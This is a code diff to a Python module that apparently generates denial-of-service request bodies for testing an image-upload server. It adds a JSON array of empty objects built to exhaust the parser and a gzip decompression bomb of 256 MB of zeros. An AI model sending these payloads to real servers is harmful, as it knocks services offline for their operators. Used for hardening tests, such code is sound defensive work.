@@ -1,6 +1,7 @@
 """What is sent to a server to take it down, and what is done to it. Each attack is made here."""
 
 import base64
+import gzip
 import json
 import random
 import signal
@@ -117,11 +118,15 @@ def _forms(forms: Sequence[Mapping[str, Any]], size: int, clients: int, target: 
 def _bodies() -> Iterator[Attack]:
     body = flat("RGB", "BMP", BODY)
     text = json.dumps({"image": base64.b64encode(body).decode()})
+    objects = b"[" + b"{}," * (len(body) // 3) + b"{}]"
+    zeros = gzip.compress(bytes(256_000_000))
     kinds: dict[str, tuple[dict[str, Any], int]] = {
         f"{len(body) / 1e6:.1f} MB": ({"data": body}, len(body)),
         "the same in a form": ({"files": {"data": ("photo.bmp", body)}}, len(body)),
         "the same in JSON": ({"data": text, "headers": {"Content-Type": "application/json"}}, len(text)),
         "16 MiB that are no image": ({"data": b"x" * JUNK}, JUNK),
+        "empty objects in JSON": ({"data": objects, "headers": {"Content-Type": "application/json"}}, len(objects)),
+        "256 MB of zeros, compressed": ({"data": zeros, "headers": {"Content-Encoding": "gzip"}}, len(zeros)),
     }
     for name, (form, size) in kinds.items():
         yield Attack(
